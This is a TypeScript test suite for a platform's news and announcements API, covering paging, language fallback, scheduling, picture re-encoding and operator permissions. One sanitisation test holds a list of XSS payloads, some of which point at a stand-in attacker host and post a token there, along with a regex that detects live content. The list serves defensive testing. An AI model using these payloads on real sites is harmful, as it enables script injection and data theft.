/**
 * News and announcements (product.md §§2, 3, 7), for readers of every language, and written by operators.
 * What is tagged @long is tested in `npm test` by: content/news/news, content/announcements,
 * staff/operators/role-matrix.
 */
import { type Desk, expect, test } from './desk.ts';
import { type Article, allPages, type Page, read, type Versioned, writerOf } from './office.ts';
import { call, type Details, must, newTrader, refused } from './support.ts';
import { upload as uploadPicture } from './people.ts';
import { jpegWithPlace } from './pictures.ts';

const LIST = '/api/news/list';
const INFO = '/api/news/info';
const ANNOUNCEMENTS = '/api/announcement/list';
const LANGS = ['hk', 'en', 'jp', 'kr', 'th', 'vn', 'fr', 'de', 'ru', 'spa', 'pt', 'ar', 'it', 'tr', 'id'];

const text = (title: string, content = `<p>${title}</p>`) => ({ title, desc: `${title}, in short`, content });
type Texts = Readonly<Record<string, object>>;

async function draft(desk: Desk, texts: Texts, category?: number, logo = ''): Promise<Versioned> {
  const writer = await writerOf(desk);
  const [first] = await must(writer.read<{ id: number }[]>('news/categories'));
  const json = { category_id: category ?? first?.id ?? 0, logo, texts };
  return must(writer.change<Versioned>('news/save', json));
}

async function publish(desk: Desk, texts: Texts, category?: number, logo?: string): Promise<number> {
  const { id, version } = await draft(desk, texts, category, logo);
  await must((await writerOf(desk)).change('news/publish', { id, version }));
  return id;
}

const article = (desk: Desk, id: number, lang = 'en') => read<Article>(desk, `${INFO}?id=${id}`, lang);

test('the news of a new installation have the fields of product.md, in each of fifteen languages', async ({ desk }) => {
  for (const lang of LANGS) {
    const { data, total } = await read<Page<Article>>(desk, LIST, lang);
    expect(total).toBeGreaterThan(0);
    for (const row of data) {
      expect(row, lang).toMatchObject({ id: expect.any(Number), title: expect.any(String), desc: expect.any(String) });
      expect(row).toMatchObject({ logo: expect.any(String), created_at: expect.any(Number), lang: expect.any(String) });
      expect(row.created_at).toBeGreaterThan(1_600_000_000_000);
    }
    const [first] = data;
    const whole = await article(desk, first?.id ?? 0, lang);
    expect(whole, lang).toMatchObject({ ...first, content: expect.stringContaining('<p>') });
  }
});

test('a category filters the list; none, an empty one or 0 selects all', { tag: '@long' }, async ({ desk }) => {
  const writer = await writerOf(desk);
  const names = { en: 'Markets & <b>more</b>', hk: '市場' };
  const category = await must(writer.change<Versioned>('news/categories/save', { names, sort: 9 }));
  const id = await publish(desk, { en: text('Alone in its category') }, category.id);
  const inside = await read<Page<Article>>(desk, `${LIST}?category_id=${category.id}&page=1`);
  expect(inside).toMatchObject({ total: 1, data: [{ id, category_id: category.id }] });
  const all = await read<Page<Article>>(desk, LIST);
  expect(all.data[0]?.id).toBe(id);
  for (const query of ['category_id=', 'category_id=0', 'category_id=0&page=1', 'page=1', `t=${Date.now()}`]) {
    expect(await read<Page<Article>>(desk, `${LIST}?${query}`), query).toEqual(all);
  }
  expect(await read<Page<Article>>(desk, `${LIST}?category_id=987654`)).toEqual({ data: [], total: 0 });
  const categories = await read<{ id: number; name: string }[]>(desk, '/api/news/categories', 'hk');
  expect(categories).toContainEqual({ id: category.id, name: '市場' });
  // hidden, together with its content
  await must(writer.change('news/categories/save', { id: category.id, version: category.version, names, hidden: 1 }));
  await refused(call(desk.server, `${INFO}?id=${id}`), 1002, 'not_found');
  expect((await read<Page<Article>>(desk, LIST)).data.map((row) => row.id)).not.toContain(id);
});

test('the news have pages of twenty, newest first, without duplicates or gaps', { tag: '@long' }, async ({ desk }) => {
  for (let number = 0; number < 21; number++) await publish(desk, { en: text(`Number ${number}`) });
  const first = await read<Page<Article>>(desk, `${LIST}?page=1`);
  expect(first.data).toHaveLength(20);
  const rows = await allPages((number) => read<Page<Article>>(desk, `${LIST}?page=${number}`));
  expect(rows).toHaveLength(first.total);
  const times = rows.map(({ created_at }) => created_at);
  expect(times).toEqual(times.toSorted((a, b) => b - a));
  expect(await read<Page<Article>>(desk, `${LIST}?page=500`)).toEqual({ data: [], total: first.total });
});

test(
  'a reader gets their language, else English, else any, and the answer says which',
  { tag: '@long' },
  async ({ desk }) => {
    const both = await publish(desk, { en: text('In English'), hk: text('中文') });
    const french = await publish(desk, { fr: text('En français') });
    const seen = async (id: number, lang: string) => {
      const { title, lang: shown } = await article(desk, id, lang);
      return [title, shown];
    };
    expect(await seen(both, 'hk')).toEqual(['中文', 'hk']);
    expect(await seen(both, 'tw')).toEqual(['中文', 'hk']);
    expect(await seen(both, 'it')).toEqual(['In English', 'en']);
    expect(await seen(french, 'it')).toEqual(['En français', 'fr']);
    const { data } = await read<Page<Article>>(desk, LIST, 'it');
    expect(data.find(({ id }) => id === french)).toMatchObject({ title: 'En français', lang: 'fr' });
  },
);

test('drafts, withdrawn, archived and scheduled articles are not readable', { tag: '@long' }, async ({ desk }) => {
  const writer = await writerOf(desk);
  const { id, version } = await draft(desk, { en: text('Not yet') });
  const gone = async () => {
    await refused(call(desk.server, `${INFO}?id=${id}`), 1002, 'not_found');
    expect((await read<Page<Article>>(desk, LIST)).data.map((row) => row.id)).not.toContain(id);
  };
  await gone();
  const at = Date.now() + 1500;
  const scheduled = await must(writer.change<Versioned>('news/publish', { id, version, at }));
  await gone();
  await expect.poll(async () => (await call(desk.server, `${INFO}?id=${id}`)).code).toBe(1);
  expect(Date.now()).toBeGreaterThanOrEqual(at);
  expect((await article(desk, id)).created_at).toBe(at);
  const back = await must(writer.change<Versioned>('news/take_back', { id, version: scheduled.version }));
  await gone();
  const again = await must(writer.change<Versioned>('news/publish', { id, version: back.version }));
  const { title } = await article(desk, id);
  expect(title).toBe('Not yet');
  await must(writer.change('news/archive', { id, version: again.version }));
  await gone();
  await refused(writer.change('news/publish', { id, version }), 1006, 'conflict');
});

const POISON = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></mtext></math>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" jav&#x09;ascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="https://evil.example/x.swf"></object><embed src="//evil.example">',
  '<form action="https://evil.example"><input name=token><button>go</button></form>',
  '<p style="position:fixed;inset:0;background:url(https://evil.example)">x</p>',
  '<div onclick="alert(1)" id="x" class="y">x</div>',
  '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">',
  '<img src="https://evil.example/track.gif"><img srcset="https://evil.example/a 1x">',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><img src=x onerror=alert(1)></template>',
  '<xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<p title="&quot;><script>alert(1)</script>">x</p>',
];
/** Anything that could run, load from elsewhere, cover the page or send data away. */
const LIVE =
  /<(?:script|svg|math|iframe|object|embed|form|input|button|base|meta|link|style|template|noscript|xmp|plaintext|textarea|video|audio)\b|\son\w+\s*=|javascript:|\sstyle\s*=|\ssrc\s*=\s*["']?(?!\/api\/content\/image\/)|srcset|srcdoc|href\s*=\s*["']?(?!https:\/\/|mailto:)/iu;

test('an article with every injection is made harmless, and its words are kept', { tag: '@long' }, async ({ desk }) => {
  const content = `<h2>Begins</h2>${POISON.join('<p>between</p>')}`;
  const id = await publish(desk, { en: { title: '<script>alert(1)</script>', desc: '<b>d</b>', content } });
  const whole = await article(desk, id);
  expect(whole.content).toContain('Begins');
  expect(whole.content).not.toMatch(LIVE);
  // titles are plain text and shown exactly as written
  expect(whole).toMatchObject({ title: '<script>alert(1)</script>', desc: '<b>d</b>' });
  for (const poison of POISON) {
    const writer = await writerOf(desk);
    const { content: clean } = await must(writer.change<Article>('news/preview', { content: `<p>a</p>${poison}` }));
    expect(clean, poison).not.toMatch(LIVE);
  }
});

test('a picture in an article is re-encoded, public, and without camera data', { tag: '@long' }, async ({ desk }) => {
  const writer = await writerOf(desk);
  const form = new FormData();
  form.append('file', new Blob([new Uint8Array(await jpegWithPlace())], { type: 'image/jpeg' }), 'a.jpg');
  const sent = await fetch(`${desk.server.url}/admin/api/content/image`, {
    method: 'POST',
    headers: { token: writer.token },
    body: form,
  });
  const { url } = ((await sent.json()) as { data: { url: string } }).data;
  const content = `<p>See</p><img src="${url}" alt="A &quot;chart&quot;">`;
  const id = await publish(desk, { en: text('With a picture', content) }, undefined, url);
  const whole = await article(desk, id);
  expect(whole.logo).toBe(url);
  expect(whole['images']).toEqual([url]);
  expect(whole.content).toContain(`src="${url}"`);
  const shown = await fetch(desk.server.url + url);
  expect(shown.status).toBe(200);
  expect(shown.headers.get('content-type')).toMatch(/^image\//u);
  expect(Buffer.from(await shown.arrayBuffer()).includes('Exif')).toBe(false);
  // a customer's upload cannot be used as a content picture
  const { token } = await newTrader(desk.server);
  const own = await uploadPicture(desk, token, [['file', await jpegWithPlace()]]);
  if (own.code === 1) {
    const [first] = await must(writer.read<{ id: number }[]>('news/categories'));
    const json = { category_id: first?.id, logo: own.data.url, texts: { en: text('Stolen') } };
    await refused(writer.change('news/save', json), 1001, 'invalid_input');
  }
});

test('read marks are stored on the account only', async ({ desk }) => {
  const id = await publish(desk, { en: text('To be read') });
  const [one, other] = [await newTrader(desk.server), await newTrader(desk.server)];
  const reads = (token: string) =>
    must(call<{ news: { ids: number[]; seen_at: number } }>(desk.server, '/api/content/reads', { token }));
  const newest = await read<{ news: number }>(desk, '/api/content/newest');
  expect(newest.news).toBe((await article(desk, id)).created_at);
  const json = { kind: 'news', id, seen_at: newest.news };
  await must(call(desk.server, '/api/content/read', { token: one.token, json }));
  await must(call(desk.server, '/api/content/read', { token: one.token, json }));
  expect((await reads(one.token)).news).toEqual({ ids: [id], seen_at: newest.news });
  expect((await reads(other.token)).news.ids).toEqual([]);
  expect((await call(desk.server, '/api/content/reads')).code).toBe(999);
  expect((await call(desk.server, '/api/content/read', { json })).code).toBe(999);
});

test('announcements are pinned first, in the reader’s language, from their start to their end', async ({ desk }) => {
  const writer = await writerOf(desk);
  const before = await read<Page>(desk, ANNOUNCEMENTS);
  const write = (texts: object, pinned = 0) => must(writer.change<Versioned>('announcements/save', { texts, pinned }));
  const pinned = await write(
    { en: { title: 'Pinned', body: 'One\n\nTwo <b>x</b>' }, hk: { title: '置頂', body: '一' } },
    1,
  );
  await must(writer.change('announcements/publish', { id: pinned.id, version: pinned.version }));
  const soon = await write({ en: { title: 'Soon gone', body: 'x' } });
  const until = Date.now() + 2500;
  await must(writer.change('announcements/publish', { id: soon.id, version: soon.version, until }));
  const now = await read<Page>(desk, ANNOUNCEMENTS, 'de');
  expect(now.total).toBe(before.total + 2);
  expect(now.data[0]).toMatchObject({
    id: pinned.id,
    title: 'Pinned',
    body: 'One\n\nTwo <b>x</b>',
    pinned: 1,
    lang: 'en',
  });
  expect((await read<Page>(desk, ANNOUNCEMENTS, 'hk')).data[0]).toMatchObject({ title: '置頂', lang: 'hk' });
  await expect.poll(async () => (await read<Page>(desk, ANNOUNCEMENTS)).total).toBe(before.total + 1);
  expect(Date.now()).toBeGreaterThanOrEqual(until);
  const restricted = (await read<Page>(desk, ANNOUNCEMENTS)).data.map((row) => JSON.stringify(row)).join('\n');
  for (const region of ['North Korea', 'Israel', 'China', 'Vanuatu', 'Cuba']) expect(restricted).toContain(region);
});

test('only operators with the content role may write', { tag: '@long' }, async ({ desk }) => {
  const { token } = await newTrader(desk.server);
  const json: Details = { texts: { en: { title: 'Mine', body: 'x' } } };
  expect((await call(desk.server, '/admin/api/announcements/save', { token, json })).code).toBe(999);
  for (const other of [desk.finance, desk.support, desk.compliance]) {
    await refused(other.change('announcements/save', json), 1004, 'forbidden');
    await refused(other.change('news/preview', { content: 'x' }), 1004, 'forbidden');
  }
});
